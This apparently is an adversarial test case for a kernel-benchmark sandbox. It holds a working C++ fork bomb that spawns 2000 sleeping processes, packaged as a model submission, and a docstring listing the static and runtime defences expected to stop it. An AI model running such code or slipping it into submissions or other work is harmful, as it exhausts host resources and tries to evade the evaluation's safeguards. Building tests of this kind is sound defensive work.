"""Attack: fork bomb. The C++ kernel forks up to 2000 children that each sleep forever (named
`ka_adv_bomb`), and insists every fork succeeds.

Defence: static `threads_or_processes` (`fork(`); with static checks off, RLIMIT_NPROC of the slot's own uid
stops the forks, and the pid namespace / uid kill removes every child afterwards.
Expected: rejected, static:threads_or_processes; static off: runtime_error (a fork failed) or timeout,
score 0, and no `ka_adv_bomb` process left on the host.
"""
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cpp_source = r"""
#include <torch/extension.h>
#include <sys/prctl.h>
#include <unistd.h>

torch::Tensor fork_many(torch::Tensor x) {
    int failures = 0;
    for (int i = 0; i < 2000; ++i) {
        pid_t pid = fork();
        if (pid == 0) {
            prctl(PR_SET_NAME, "ka_adv_bomb", 0, 0, 0);
            for (;;) pause();
        }
        if (pid < 0) ++failures;
    }
    TORCH_CHECK(failures == 0, "fork failed ", failures, " times");
    return x.clone();
}
"""

ext = load_inline(name="adv_cpp_fork_bomb", cpp_sources=[cpp_source], functions=["fork_many"])


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return ext.fork_many(x)
